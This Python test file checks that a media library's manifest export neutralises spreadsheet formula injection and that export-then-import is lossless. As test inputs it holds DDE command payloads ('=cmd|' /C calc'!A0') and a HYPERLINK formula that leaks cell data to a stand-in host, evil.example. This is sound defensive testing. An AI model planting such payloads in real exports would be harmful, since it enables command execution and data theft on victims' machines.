"""R18, R29 (issue 12): exported manifests are opened in spreadsheets, so no cell may start
with a formula character (`=`, `+`, `-`, `@`, tab, carriage return): such cells get a
leading `'` (OWASP), and import removes exactly that quote, so export -> import is lossless,
even for values that really start with `'=` or hold line breaks and quotes."""

from __future__ import annotations

import io

import pytest

from assignments.manifests.export import ExportSelection, export_to_path
from assignments.manifests.files import FileSource
from assignments.manifests.importer import manifest_import
from assignments.manifests.parse import manifest_read
from assignments.manifests.tsv import cell_decode, cell_encode, line_encode
from media_library.models import MediaItem
from media_library.services import media_item_update
from tests.manifests.helpers import export_text, run_import
from tests.publishing import builders

TRICKY = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tindented",
    "\rcarriage",
    "'=already quoted",
    "''=twice",
    "'",
    "''",
    "'80s look",
    '"quoted" start',
    '12" pizza',
    'ends with a quote"',
    "line one\nline two\r\nline three",
    "a\ttab inside",
    "C:\\photos\\new\\table.jpg",
    '"C:\\new\\t"',
    "plain",
    "",
]
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("value", TRICKY)
def test_every_value_survives_encode_then_decode(value):  # R18
    assert cell_decode(cell_encode(value)) == value


@pytest.mark.parametrize("value", TRICKY)
def test_no_encoded_cell_starts_a_formula_or_spans_a_line(value):  # R29
    cell = cell_encode(value)
    assert not cell.startswith(FORMULA_LEADS)
    assert cell.lstrip('"')[:1] not in FORMULA_LEADS  # nor once a spreadsheet unwraps it
    assert "\n" not in cell and "\r" not in cell and "\t" not in cell


def test_a_manifest_line_of_tricky_values_reads_back_unchanged():  # R18
    header = [f"MediaTitle{i}" for i in range(len(TRICKY))]
    text = line_encode(header) + line_encode(TRICKY)

    manifest = manifest_read(io.BytesIO(text.encode()))

    assert len(manifest.rows) == 1
    assert list(manifest.rows[0].values) == TRICKY


def _cells(text: str) -> list[str]:
    return [cell for line in text.splitlines() for cell in line.split("\t")]


def _dangerous_item(tenant, user):
    item = builders.image(tenant, user, "dangerous")
    return media_item_update(
        item=item,
        user=user,
        display_name='=HYPERLINK("http://evil.example/?"&A1,"click")',
        title="@SUM(1+1)*cmd|' /C calc'!A0",
        alt_text="+1+1",
        caption="-2+3",
        description='\'=already quoted\nsecond line with a "quote" and a\ttab',
        tags=["=cmd|' /C calc'!A0", "summer"],
    )


def test_export_neutralises_formula_cells(tenant, admin_user):  # R29
    _dangerous_item(tenant, admin_user)

    text = export_text(tenant, "media")

    cells = _cells(text)
    assert not [c for c in cells if c.startswith(FORMULA_LEADS)]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'+1+1" in cells and "'-2+3" in cells
    assert "'=cmd|' /C calc'!A0,summer" in cells
    assert len(text.splitlines()) == 2  # the multi-line description stays on its row's line


def test_export_then_import_is_lossless(tenant, other_tenant, admin_user, tmp_path):  # R18
    original = _dangerous_item(tenant, admin_user)
    folder = tmp_path / "export"
    export_to_path(tenant=tenant, selection=ExportSelection(kind="media"), target=folder)

    report, _ = run_import(other_tenant, (folder / "manifest.tsv").read_text(), folder=folder)

    assert report.ok, report.errors
    copy = MediaItem.objects.get(tenant=other_tenant)
    for field in ("display_name", "title", "alt_text", "caption", "description"):
        assert getattr(copy, field) == getattr(original, field), field
    assert sorted(copy.tags.values_list("name", flat=True)) == sorted(
        original.tags.values_list("name", flat=True)
    )
    # And importing the same export again changes nothing (the values compare equal).
    report, rows = run_import(other_tenant, (folder / "manifest.tsv").read_text(), folder=folder)
    assert report.ok and rows[0]["Result"] == "Skipped"


def test_the_result_manifest_is_neutralised_too(tenant, files_dir):  # R29
    header = ["MediaLocale", "MediaType", "MediaImportPath", "MediaDisplayName", "ImageAltText"]
    text = line_encode(header) + line_encode(
        ["system_neutral", "Image", "media/red.jpg", "=1+1", "@cmd"]
    )
    out = io.StringIO()

    with FileSource(folder=files_dir) as files:
        report = manifest_import(
            tenant=tenant, source=io.BytesIO(text.encode()), files=files, user=None, result_out=out
        )

    assert report.ok, report.errors
    assert MediaItem.objects.get(tenant=tenant).display_name == "=1+1"
    cells = _cells(out.getvalue())
    assert "'=1+1" in cells and "'@cmd" in cells
    assert not [c for c in cells if c.startswith(FORMULA_LEADS)]
